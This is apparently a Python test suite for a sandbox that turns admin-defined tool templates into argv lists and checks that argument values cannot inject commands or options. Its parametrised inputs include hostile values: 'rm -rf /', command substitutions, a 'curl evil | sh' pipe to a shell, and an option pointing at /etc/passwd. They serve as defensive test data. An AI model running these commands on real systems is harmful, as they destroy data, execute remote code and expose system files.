"""Admin-defined tools: argv templates fill one element per placeholder, nothing can inject."""

from __future__ import annotations

from pathlib import Path

import pytest

from sandboxd.models import ToolKind
from tests.policy.helpers import decide, store_for

CUSTOM = """\
custom_tools:
  count:
    description: Count words of a file.
    parameters:
      type: object
      properties:
        path: {type: string}
        mode: {type: string, default: "-w"}
        max: {type: integer}
        verbose: {type: boolean}
      required: [path]
    argv: [wc, "--files0-from=x{{y}}", "--max={max}", "{path}"]
  grep:
    description: Grep.
    parameters:
      type: object
      properties:
        pattern: {type: string}
      required: [pattern]
    argv: [grep, -r, --, "{pattern}", "."]
    allow_option_values: true
  status:
    description: git status
    argv: [git, status, --short]
    limits: {timeout: 7s}
"""


@pytest.mark.parametrize("value", [
    "; rm -rf /",
    "a b c",
    "$(id)",
    "`id`",
    "x' \"y",
    "{path}",
    "|| curl evil | sh",
    "*",
    "a\nb",
])
def test_placeholder_value_stays_one_argument(tmp_path: Path, value: str) -> None:
    store = store_for(tmp_path, CUSTOM)
    d = decide(store, "count", {"path": value, "max": 3})
    assert d.allowed, d.message
    assert d.plan is not None
    assert d.plan.argv == ["wc", "--files0-from=x{y}", "--max=3", value]
    assert (d.plan.kind, d.backend, d.rule) == (ToolKind.command, "container",
                                                "custom_tools.count")


def test_optional_placeholder_drops_its_element(tmp_path: Path) -> None:
    store = store_for(tmp_path, CUSTOM)
    d = decide(store, "count", {"path": "f.txt"})
    assert d.plan.argv == ["wc", "--files0-from=x{y}", "f.txt"]


def test_option_injection_refused_unless_allowed(tmp_path: Path) -> None:
    store = store_for(tmp_path, CUSTOM)
    d = decide(store, "count", {"path": "--files0-from=/etc/passwd"})
    assert (d.allowed, d.rule) == (False, "custom_tools.count.argv[3]")
    assert "must not start with `-`" in d.message
    # inside an element that already is an option, a leading '-' is harmless
    d = decide(store, "count", {"path": "x", "max": -1})
    assert d.allowed and d.plan is not None
    assert d.plan.argv is not None and "--max=-1" in d.plan.argv
    # the admin may declare that the program treats such values safely (after `--`)
    d = decide(store, "grep", {"pattern": "-rf"})
    assert d.allowed and d.plan.argv == ["grep", "-r", "--", "-rf", "."]


def test_fixed_tool_and_its_limits(tmp_path: Path) -> None:
    store = store_for(tmp_path, CUSTOM)
    d = decide(store, "status", {})
    assert d.allowed and d.plan is not None and d.plan.argv is not None
    # git runs hardened: options no repository config can override, its own environment,
    # and it may execute only git's own programs (see tests/security/test_git_hardening.py)
    assert d.plan.argv[:2] == ["git", "--no-pager"] and d.plan.argv[-2:] == ["status", "--short"]
    assert "core.fsmonitor=false" in d.plan.argv and "alias.status=" in d.plan.argv
    assert d.plan.command is not None
    command = d.plan.command.pipelines[0].commands[0]
    assert command.env["GIT_CONFIG_GLOBAL"] == "/dev/null"
    assert command.exec_only is not None and "git" in command.exec_only
    assert d.limits is not None and d.limits.timeout_s == 7
    spec = {t.name: t for t in store.tools_for("local")}["status"]
    assert spec.parameters == {"type": "object", "properties": {}, "additionalProperties": False}
    assert spec.backend == "container"


def test_custom_tool_definition_errors(tmp_path: Path) -> None:
    from sandboxd.policy import PolicyError

    with pytest.raises(PolicyError) as info:
        store_for(tmp_path, """\
            custom_tools:
              shell: {description: x, argv: [sh]}
              bad name: {description: x, argv: [x]}
              prog: {description: x, argv: ["{p}"],
                     parameters: {type: object, properties: {p: {type: string}}}}
              arr: {description: x, argv: [x, "{a}"],
                    parameters: {type: object, properties: {a: {type: array}}}}
              schema: {description: x, argv: [x], parameters: {type: objekt}}
            """.replace("            ", ""))
    text = "\n".join(info.value.problems)
    assert ":5:3: custom_tools.shell: 'shell' is a built-in tool" in text
    assert ":6:3: custom_tools.bad name: 'bad name' is not a valid tool name" in text
    assert "custom_tools.prog.argv[0]: the program (argv[0]) must be fixed" in text
    assert "custom_tools.arr.argv[1]: placeholder {a} must be a string" in text
    assert "custom_tools.schema.parameters: not a valid JSON Schema" in text


@pytest.mark.parametrize(("arguments", "rule", "message"), [
    ({"path": ["a"]}, "custom_tools.count.argv[3]", "must be a string, number or boolean"),
    ({"path": "x", "max": {"a": 1}}, "custom_tools.count.argv[2]",
     "must be a string, number or boolean"),
    ({"path": "a\x00b"}, "custom_tools.count.argv[3]", "must not contain NUL characters"),
])
def test_placeholder_values_refused(tmp_path: Path, arguments: dict[str, object], rule: str,
                                    message: str) -> None:
    store = store_for(tmp_path, CUSTOM)
    d = decide(store, "count", arguments)
    assert (d.allowed, d.rule) == (False, rule), d.message
    assert message in d.message
